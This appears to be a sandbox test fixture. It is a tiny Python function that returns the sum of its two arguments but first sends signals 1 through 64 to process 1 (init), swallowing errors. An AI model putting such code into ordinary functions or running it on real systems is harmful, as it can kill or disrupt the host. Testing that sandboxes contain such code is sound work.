# what: every signal to process 1
# verdict: finished
# passes: returns ends leaves_nothing
import os


def main(a, b):
    for number in range(1, 65):
        try:
            os.kill(1, number)
        except OSError:
            pass
    return a + b
